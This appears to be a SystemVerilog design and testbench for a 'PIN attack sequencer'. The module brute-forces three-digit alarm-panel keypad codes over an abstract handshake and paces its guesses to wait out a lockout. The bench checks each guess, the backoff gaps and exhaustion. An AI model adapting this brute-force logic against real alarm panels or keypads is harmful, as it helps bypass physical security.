// File: rtl/pin_attack_sequencer_if.sv
// pin_attack_sequencer_if: keypad-side handshake between the sequencer and the alarm panel
interface pin_attack_sequencer_if;
    logic        start;
    logic        digit_ready;
    logic        result_valid;
    logic        result_ok;
    logic [1:0]  command;
    logic [3:0]  digit;
    logic        digit_valid;
    logic        busy;
    logic        done;
    logic        fail;
    logic [11:0] found_code;
    modport master (
        input  start, digit_ready, result_valid, result_ok,
        output command, digit, digit_valid, busy, done, fail, found_code
    );
    modport slave (
        output start, digit_ready, result_valid, result_ok,
        input  command, digit, digit_valid, busy, done, fail, found_code
    );
endinterface

// File: rtl/pin_attack_sequencer.sv
// pin_attack_sequencer: walks BCD codes 000..999 over the keypad handshake, backing off after repeated rejects
module pin_attack_sequencer #(
    parameter int LOCKOUT_TRIES  = 3,
    parameter int LOCKOUT_CYCLES = 16
) (
    input logic                   clk,
    input logic                   reset,
    pin_attack_sequencer_if.master bus
);
    localparam int FW = $clog2(LOCKOUT_TRIES + 1);
    localparam int BW = $clog2(LOCKOUT_CYCLES + 1);
    typedef enum logic [2:0] {IDLE, SEND, WAIT, BACKOFF, DONE, EXHAUSTED} state_t;
    state_t      state, state_nxt;
    logic [3:0]  d0, d1, d2, d0_nxt, d1_nxt, d2_nxt, d0_inc, d1_inc, d2_inc;
    logic [1:0]  idx, idx_nxt;
    logic [FW-1:0] fails, fails_nxt, fails_inc;
    logic [BW-1:0] bcnt, bcnt_nxt;
    logic [11:0] found, found_nxt;
    logic        last_code, sending;
    assign last_code = d0 == 4'd9 && d1 == 4'd9 && d2 == 4'd9;
    assign d2_inc    = d2 == 4'd9 ? 4'd0 : d2 + 4'd1;
    assign d1_inc    = d2 != 4'd9 ? d1 : d1 == 4'd9 ? 4'd0 : d1 + 4'd1;
    assign d0_inc    = d2 == 4'd9 && d1 == 4'd9 ? d0 + 4'd1 : d0;
    assign fails_inc = fails + 1'b1;
    always_ff @(posedge clk or posedge reset) begin
        if (reset) begin
            state <= IDLE;
            d0    <= '0;
            d1    <= '0;
            d2    <= '0;
            idx   <= '0;
            fails <= '0;
            bcnt  <= '0;
            found <= '0;
        end else begin
            state <= state_nxt;
            d0    <= d0_nxt;
            d1    <= d1_nxt;
            d2    <= d2_nxt;
            idx   <= idx_nxt;
            fails <= fails_nxt;
            bcnt  <= bcnt_nxt;
            found <= found_nxt;
        end
    end
    always_comb begin
        state_nxt = state;
        d0_nxt    = d0;
        d1_nxt    = d1;
        d2_nxt    = d2;
        idx_nxt   = idx;
        fails_nxt = fails;
        bcnt_nxt  = bcnt;
        found_nxt = found;
        case (state)
            IDLE, DONE, EXHAUSTED: if (bus.start) begin
                state_nxt = SEND;
                d0_nxt    = '0;
                d1_nxt    = '0;
                d2_nxt    = '0;
                idx_nxt   = '0;
                fails_nxt = '0;
            end
            SEND: if (bus.digit_ready) begin
                idx_nxt   = idx == 2'd2 ? 2'd0 : idx + 2'd1;
                state_nxt = idx == 2'd2 ? WAIT : SEND;
            end
            WAIT: if (bus.result_valid) begin
                if (bus.result_ok) begin
                    found_nxt = {d0, d1, d2};
                    state_nxt = DONE;
                end else if (last_code) begin
                    state_nxt = EXHAUSTED;
                end else begin
                    d0_nxt = d0_inc;
                    d1_nxt = d1_inc;
                    d2_nxt = d2_inc;
                    // hitting the reject limit trades the count for a fixed-length pause
                    if (fails_inc == FW'(LOCKOUT_TRIES)) begin
                        fails_nxt = '0;
                        bcnt_nxt  = BW'(LOCKOUT_CYCLES);
                        state_nxt = BACKOFF;
                    end else begin
                        fails_nxt = fails_inc;
                        state_nxt = SEND;
                    end
                end
            end
            BACKOFF: begin
                bcnt_nxt  = bcnt - 1'b1;
                state_nxt = bcnt == BW'(1) ? SEND : BACKOFF;
            end
            default: state_nxt = IDLE;
        endcase
    end
    assign sending         = state == SEND;
    assign bus.digit_valid = sending;
    assign bus.digit       = !sending ? 4'd0 : idx == 2'd0 ? d0 : idx == 2'd1 ? d1 : d2;
    assign bus.command     = sending ? 2'b10 : 2'b00;
    assign bus.busy        = state == SEND || state == WAIT || state == BACKOFF;
    assign bus.done        = state == DONE;
    assign bus.fail        = state == EXHAUSTED;
    assign bus.found_code  = found;
endmodule

// File: tb/tb_pin_attack_sequencer.sv
// tb_pin_attack_sequencer: directed bench acting as the alarm panel for pin_attack_sequencer
module tb_pin_attack_sequencer;
    logic clk = 1'b0;
    logic reset;
    int   compared = 0;
    int   mismatched = 0;
    int   sent = 0;
    pin_attack_sequencer_if bus ();
    pin_attack_sequencer #(.LOCKOUT_TRIES(3), .LOCKOUT_CYCLES(16)) dut (
        .clk  (clk),
        .reset(reset),
        .bus  (bus)
    );
    always #5 clk = ~clk;
    function automatic logic [11:0] bcd(input int c);
        return {4'(c / 100), 4'((c / 10) % 10), 4'(c % 10)};
    endfunction
    task automatic chk(input string tag, input logic [31:0] obs, input logic [31:0] exp);
        compared++;
        assert (obs === exp) else begin
            mismatched++;
            $error("FAIL %s: observed %0h expected %0h", tag, obs, exp);
        end
    endtask
    // collects one code's three transfers; idle counts dead cycles before the first digit
    task automatic send_code(output logic [11:0] code, output int idle, output int n);
        code = '0;
        idle = 0;
        n    = 0;
        for (int k = 0; k < 200 && n < 3; k++) begin
            if (bus.digit_valid) begin
                chk("command", 32'(bus.command), 32'(2'b10));
                if (bus.digit_ready) begin
                    code = {code[7:0], bus.digit};
                    n++;
                end
            end else if (n == 0) idle++;
            @(negedge clk);
        end
    endtask
    task automatic respond(input logic ok);
        bus.result_valid = 1'b1;
        bus.result_ok    = ok;
        @(negedge clk);
        bus.result_valid = 1'b0;
        bus.result_ok    = 1'b0;
    endtask
    task automatic attack(input int c, input logic ok);
        logic [11:0] code;
        int idle, n;
        send_code(code, idle, n);
        chk("transfers", n, 3);
        chk("code", 32'(code), 32'(bcd(c)));
        chk("gap", idle, (c % 3 == 0 && c > 0) ? 16 : 0);
        respond(ok);
        sent++;
    endtask
    initial begin
        int idle;
        reset            = 1'b1;
        bus.start        = 1'b0;
        bus.digit_ready  = 1'b0;
        bus.result_valid = 1'b0;
        bus.result_ok    = 1'b0;
        repeat (2) @(negedge clk);
        chk("rst_valid", 32'(bus.digit_valid), 0);
        chk("rst_command", 32'(bus.command), 0);
        chk("rst_digit", 32'(bus.digit), 0);
        chk("rst_busy", 32'(bus.busy), 0);
        chk("rst_done", 32'(bus.done), 0);
        chk("rst_fail", 32'(bus.fail), 0);
        chk("rst_found", 32'(bus.found_code), 0);
        reset = 1'b0;
        @(negedge clk);
        chk("idle_valid", 32'(bus.digit_valid), 0);
        bus.start = 1'b1;
        @(negedge clk);
        bus.start = 1'b0;
        chk("first_valid", 32'(bus.digit_valid), 1);
        chk("first_digit", 32'(bus.digit), 0);
        chk("first_command", 32'(bus.command), 32'(2'b10));
        chk("first_busy", 32'(bus.busy), 1);
        bus.digit_ready = 1'b1;
        @(negedge clk);
        bus.digit_ready  = 1'b0;
        bus.start        = 1'b1;
        bus.result_valid = 1'b1;
        bus.result_ok    = 1'b1;
        repeat (5) begin
            @(negedge clk);
            bus.start        = 1'b0;
            bus.result_valid = 1'b0;
            bus.result_ok    = 1'b0;
            chk("bp_valid", 32'(bus.digit_valid), 1);
            chk("bp_digit", 32'(bus.digit), 0);
            chk("bp_done", 32'(bus.done), 0);
        end
        bus.digit_ready = 1'b1;
        repeat (2) @(negedge clk);
        chk("wait_valid", 32'(bus.digit_valid), 0);
        chk("wait_busy", 32'(bus.busy), 1);
        respond(1'b0);
        chk("next_d0_valid", 32'(bus.digit_valid), 1);
        for (int c = 1; c < 42; c++) attack(c, 1'b0);
        attack(42, 1'b1);
        chk("done", 32'(bus.done), 1);
        chk("done_busy", 32'(bus.busy), 0);
        chk("found", 32'(bus.found_code), 32'h042);
        repeat (4) begin
            @(negedge clk);
            chk("done_quiet", 32'(bus.digit_valid), 0);
        end
        bus.start = 1'b1;
        @(negedge clk);
        bus.start = 1'b0;
        for (int c = 0; c < 57; c++) begin
            attack(c, 1'b0);
            if (c == 0) chk("found_held", 32'(bus.found_code), 32'h042);
        end
        idle = 0;
        for (int k = 0; k < 40 && !bus.digit_valid; k++) begin
            idle++;
            @(negedge clk);
        end
        chk("gap_057", idle, 16);
        chk("d0_057", 32'(bus.digit), 0);
        @(negedge clk);
        chk("d1_057", 32'(bus.digit), 5);
        #1 reset = 1'b1;
        #1;
        chk("mid_rst_valid", 32'(bus.digit_valid), 0);
        chk("mid_rst_command", 32'(bus.command), 0);
        chk("mid_rst_digit", 32'(bus.digit), 0);
        chk("mid_rst_busy", 32'(bus.busy), 0);
        chk("mid_rst_found", 32'(bus.found_code), 0);
        @(negedge clk);
        reset = 1'b0;
        repeat (3) begin
            @(negedge clk);
            chk("post_rst_valid", 32'(bus.digit_valid), 0);
        end
        bus.start = 1'b1;
        @(negedge clk);
        bus.start = 1'b0;
        sent = 0;
        for (int c = 0; c < 1000; c++) attack(c, 1'b0);
        chk("codes_sent", sent, 1000);
        chk("exh_fail", 32'(bus.fail), 1);
        chk("exh_busy", 32'(bus.busy), 0);
        chk("exh_done", 32'(bus.done), 0);
        repeat (3) begin
            @(negedge clk);
            chk("exh_quiet", 32'(bus.digit_valid), 0);
        end
        $display("*** SUMMARY: %0d compared / %0d mismatched ***", compared, mismatched);
        $finish;
    end
    initial begin
        #2000000;
        $display("FAIL timeout: bench did not complete");
        $fatal(1, "timeout");
    end
endmodule
